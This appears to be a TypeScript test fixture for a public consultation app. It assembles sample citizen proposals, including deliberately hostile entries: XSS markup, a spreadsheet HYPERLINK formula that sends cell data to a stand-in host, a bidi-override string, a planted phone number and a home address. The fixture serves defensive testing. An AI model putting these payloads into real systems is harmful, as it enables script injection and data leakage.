/** Sixty proposals of a consultation: those of the demonstration, and others that nobody wishes for. */
import { readEntries } from '../../supabase/local/demo/samples'

interface Entry {
  key: string
  /** The number of a part of the strategy; null for «lo que falta». */
  part: string | null
  helps: 'yes' | 'partly' | 'no' | null
  sector: string | null
  municipality: string | null
  name: string | null
  publish: boolean
  body: string
}

const said = (key: string, body: string, more: Partial<Entry> = {}): Entry => ({
  key,
  part: null,
  helps: null,
  sector: null,
  municipality: null,
  name: null,
  publish: true,
  body,
  ...more,
})

const SAMPLES = readEntries<Entry>('propuestas.json')
/** How many arrive from screens: without signal and late, spoken, on paper, in a brigade. */
const ON_SCREENS = 4
/** The name of an author of the demonstration, which no public file may have. */
export const PLANTED = 'Xóchitl Planteada de Muestra'
export const TELEPHONE = '722 123 4567'

const MARKUP = said(
  'markup',
  '<script>alert(1)</script><img src=x onerror=alert(2)> Que cada reunión tenga un acta que se pueda leer en el teléfono, sin bajar nada.',
)
const FORMULA = said(
  'formula',
  '=HYPERLINK("http://malo.example?"&A1,"Ver") Que los presupuestos se publiquen en hojas que cualquiera pueda abrir.',
)
const BIDI = said(
  'bidi',
  'Que los avisos digan \u202Eserbmon sol sodot\u202C de quienes deciden, y cuándo reciben a la gente en su oficina.',
)
const PERSONAL = said(
  'personal',
  `Que haya una ventanilla en cada cabecera municipal. Si quieren saber más, mi número es ${TELEPHONE} y contesto por las tardes.`,
  { name: PLANTED },
)
const ABOUT_OTHERS = said(
  'others',
  'El encargado de la oficina de mi colonia vive en la calle de Pino 8, interior 3, y habría que ir a reclamarle a su casa.',
)
const ENGLISH = said(
  'english',
  'I moved here two years ago and still read Spanish slowly. Please publish a short summary of each action in plain words, with numbers.',
)
/** What its first sample says, in other words: the board finds both. */
const TWIN = {
  ...SAMPLES[0]!,
  key: 'twin',
  name: null,
  body: SAMPLES[0]!.body.replace('Sí ayuda, y mucho. ', 'Ayuda mucho. '),
}

export const REFUSED = ABOUT_OTHERS
export const HELD = PERSONAL
const SPECIAL = [MARKUP, FORMULA, BIDI, PERSONAL, ABOUT_OTHERS, ENGLISH, TWIN]
export const HOSTILE = [MARKUP, FORMULA, BIDI]

const plain = SAMPLES.slice(0, 60 - ON_SCREENS - SPECIAL.length)
/** What phones send that are no screen of this test. */
export const SENT: readonly Entry[] = [...plain, ...SPECIAL]
export const [OFFLINE, SPOKEN, ON_PAPER, IN_BRIGADE] = SAMPLES.slice(-ON_SCREENS).map(({ body }) => body) as [
  string,
  string,
  string,
  string,
]
